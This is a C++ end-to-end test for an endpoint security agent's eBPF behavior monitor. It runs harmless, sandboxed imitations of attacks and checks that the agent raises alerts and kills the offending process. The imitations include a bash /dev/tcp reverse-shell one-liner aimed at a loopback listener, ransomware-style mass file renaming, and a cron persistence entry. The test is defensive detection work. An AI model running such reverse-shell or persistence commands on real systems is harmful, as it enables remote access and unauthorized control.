// The behavior monitor end to end: the real mamori-agent with the real eBPF
// sensor and the shipped default rules, against harmless imitations of
// attacker behavior run by this test. Everything the imitations touch is the
// test's own: a temp dir, a loopback listener, and tmpfs mounts inside a
// private mount namespace (so "/home" and "/var/spool/cron" seen by the
// imitation are empty tmpfs, invisible to the rest of the machine). The only
// process a response may kill is one this test started.
#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <fstream>
#include <thread>

#include "agent_test_util.h"
#include "mamori/common/file_util.h"
#include "mamori/common/json.h"

namespace mamori::agent {
namespace {

using namespace std::chrono_literals;
using testing::AgentProcess;
using testing::TempDir;
using testing::WaitFor;
using testing::Watchdog;

// Alerts recorded in the agent's events.jsonl, parsed.
std::vector<json::Value> Alerts(const std::string& events_path) {
  std::vector<json::Value> out;
  std::ifstream in(events_path);
  std::string line;
  while (std::getline(in, line)) {
    auto v = json::Parse(line);
    if (v.ok() && v->Find("type") != nullptr && v->Find("type")->AsString() == "behavior_alert") {
      out.push_back(std::move(*v));
    }
  }
  return out;
}

// REQUIRES: `alerts` outlives the returned pointer.
const json::Value* FindAlert(const std::vector<json::Value>& alerts, const std::string& title, pid_t pid) {
  for (const auto& a : alerts) {
    if (a.Find("title")->AsString() == title && a.Find("pid") != nullptr &&
        a.Find("pid")->AsString() == std::to_string(pid)) {
      return &a;
    }
  }
  return nullptr;
}

// The alert's ancestry: [acting process, its parent, ...] as (pid, image).
std::vector<std::pair<std::string, std::string>> Ancestry(const json::Value& alert) {
  std::vector<std::pair<std::string, std::string>> out;
  for (const auto& p : alert.Find("alert")->Find("ancestry")->items()) {
    out.emplace_back(p.Find("pid")->AsString(), p.Find("image")->AsString());
  }
  return out;
}

std::string SelfExe() {
  char buf[4096];
  ssize_t n = ::readlink("/proc/self/exe", buf, sizeof buf);
  return n > 0 ? std::string(buf, static_cast<size_t>(n)) : "";
}

// Runs `body` in a forked child inside a private mount namespace with an empty
// tmpfs over each of `mounts`; returns the child's pid (not waited for).
pid_t InPrivateMounts(const std::vector<std::string>& mounts, const std::function<int()>& body) {
  pid_t pid = ::fork();
  REQUIRE(pid >= 0);
  if (pid == 0) {
    if (::unshare(CLONE_NEWNS) != 0) ::_exit(90);
    if (::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) ::_exit(91);
    for (const auto& m : mounts) {
      ::mkdir(m.c_str(), 0755);  // only ever inside the namespace's tmpfs parents or existing dirs
      if (::mount("tmpfs", m.c_str(), "tmpfs", MS_NOSUID | MS_NODEV, "size=16m,mode=0755") != 0) ::_exit(92);
    }
    ::_exit(body());
  }
  return pid;
}

int WaitExit(pid_t pid, int* signal = nullptr) {
  int st = 0;
  ::waitpid(pid, &st, 0);
  if (signal != nullptr) *signal = WIFSIGNALED(st) ? WTERMSIG(st) : 0;
  return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

TEST_CASE("The agent's eBPF behavior monitor raises default-rule alerts with ancestry for imitated attacks") {
  if (::geteuid() != 0) FAIL("the behavior end-to-end test needs root (eBPF)");
  Watchdog watchdog(150);
  TempDir dir;
  const std::string data = dir.path() + "/data";
  const std::string sock = dir.path() + "/agent.sock";
  const std::string events = data + "/events.jsonl";
  std::string config = dir.Write("agent.yaml",
      "data_dir: " + data + "\n"
      "control_socket: " + sock + "\n"
      "signatures: [" MAMORI_SOURCE_DIR "/signatures/default]\n"
      "onaccess:\n  enabled: false\n"
      "behavior:\n"
      "  sensor: ebpf\n"
      "  rules: [" MAMORI_SOURCE_DIR "/signatures/behavior]\n"
      "  watch_paths: [" + dir.path() + ", /home, /var/spool/cron]\n");
  AgentProcess agent(config, sock, dir.path() + "/agent.log");
  REQUIRE(WaitFor([&] {
    std::string text;
    auto t = ReadFileToString(events);
    return t.ok() && t->find("\"behavior_started\"") != std::string::npos;
  }, 20s));
  auto started = ReadFileToString(events);
  REQUIRE(started.ok());
  CHECK(started->find("\"sensor\":\"ebpf\"") != std::string::npos);
  const std::string self = SelfExe();
  std::vector<json::Value> alerts;  // what FindAlert's results point into
  const std::string me = std::to_string(::getpid());

  SECTION("a binary copied under /tmp and executed") {
    std::string payload = dir.path() + "/payload";
    auto bin = ReadFileToString("/bin/true");
    REQUIRE(bin.ok());
    REQUIRE(WriteFileAtomically(payload, *bin, 0755).ok());
    pid_t pid = ::fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {
      ::execl(payload.c_str(), payload.c_str(), "mamori-e2e-exec", static_cast<char*>(nullptr));
      ::_exit(127);
    }
    REQUIRE(WaitExit(pid) == 0);
    const json::Value* a = nullptr;
    REQUIRE(WaitFor([&] { return (a = FindAlert(alerts = Alerts(events), "Execution Of Binary From /tmp Or /var/tmp", pid)); }, 10s));
    auto chain = Ancestry(*a);
    REQUIRE(chain.size() >= 2);
    CHECK(chain[0] == std::make_pair(std::to_string(pid), payload));
    CHECK(chain[1] == std::make_pair(me, self));
    CHECK(a->Find("command_line")->AsString() == payload + " mamori-e2e-exec");
  }

  SECTION("bash opening a /dev/tcp socket to a listener the test owns") {
    int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(listener >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
    socklen_t len = sizeof addr;
    REQUIRE(::getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
    REQUIRE(::listen(listener, 4) == 0);
    const std::string port = std::to_string(ntohs(addr.sin_port));
    std::thread acceptor([&] {
      int c = ::accept(listener, nullptr, nullptr);
      if (c >= 0) ::close(c);  // the "shell" reads EOF and exits
    });
    const std::string script = "exec 3<>/dev/tcp/127.0.0.1/" + port + "; sh -i <&3 >&3 2>&3";
    pid_t pid = ::fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {
      ::execl("/bin/bash", "bash", "-c", script.c_str(), static_cast<char*>(nullptr));
      ::_exit(127);
    }
    WaitExit(pid);
    acceptor.join();
    ::close(listener);
    const json::Value* a = nullptr;
    REQUIRE(WaitFor([&] {
      return (a = FindAlert(alerts = Alerts(events), "Reverse Shell Via Bash /dev/tcp Or /dev/udp Redirection", pid));
    }, 10s));
    auto chain = Ancestry(*a);
    REQUIRE(chain.size() >= 2);
    CHECK(chain[0].first == std::to_string(pid));
    CHECK(chain[0].second == "/usr/bin/bash");
    CHECK(chain[1] == std::make_pair(me, self));
  }

  SECTION("one process renaming many files in a home directory is killed") {
    pid_t pid = InPrivateMounts({"/home"}, [] {
      if (::mkdir("/home/victim", 0700) != 0) return 1;
      for (int i = 0; i < 60; ++i) {
        std::string f = "/home/victim/report-" + std::to_string(i) + ".odt";
        if (!WriteFileAtomically(f, "quarterly numbers", 0600).ok()) return 2;
      }
      for (int i = 0; i < 60; ++i) {
        std::string f = "/home/victim/report-" + std::to_string(i) + ".odt";
        if (::rename(f.c_str(), (f + ".locked").c_str()) != 0) return 3;
      }
      ::sleep(30);  // the agent's kill_process response should end this early
      return 0;
    });
    auto t0 = std::chrono::steady_clock::now();
    int sig = 0;
    int code = WaitExit(pid, &sig);
    auto waited = std::chrono::steady_clock::now() - t0;
    CHECK(code == -1);
    CHECK(sig == SIGKILL);
    CHECK(waited < 20s);
    const json::Value* a = nullptr;
    REQUIRE(WaitFor([&] { return (a = FindAlert(alerts = Alerts(events), "Mass File Rename By One Process (Ransomware)", pid)); }, 10s));
    const auto& responses = a->Find("alert")->Find("responses")->items();
    REQUIRE(responses.size() == 1);
    CHECK(responses[0].Find("action")->AsString() == "kill_process");
    CHECK(responses[0].Find("done")->AsBool());
    auto chain = Ancestry(*a);
    REQUIRE(chain.size() >= 2);
    CHECK(chain[1] == std::make_pair(me, self));
  }

  SECTION("a crontab written by an unexpected process") {
    pid_t pid = InPrivateMounts({"/var/spool/cron"}, [] {
      if (::mkdir("/var/spool/cron/crontabs", 0730) != 0) return 1;
      return WriteFileAtomically("/var/spool/cron/crontabs/root", "* * * * * /tmp/.x/run\n", 0600).ok() ? 0 : 2;
    });
    REQUIRE(WaitExit(pid) == 0);
    const json::Value* a = nullptr;
    REQUIRE(WaitFor([&] { return (a = FindAlert(alerts = Alerts(events), "Cron Job File Written By Unexpected Process", pid)); }, 10s));
    auto chain = Ancestry(*a);
    REQUIRE(chain.size() >= 2);
    CHECK(chain[0].first == std::to_string(pid));
    CHECK(chain[1] == std::make_pair(me, self));
  }

  auto st = testing::RunCommand(std::string(MAMORI_BINARY) + " status --socket " + sock + " 2>&1");
  CHECK(st.out.find("behavior     ebpf:") != std::string::npos);
  CHECK(agent.Stop() == 0);
}

}  // namespace
}  // namespace mamori::agent
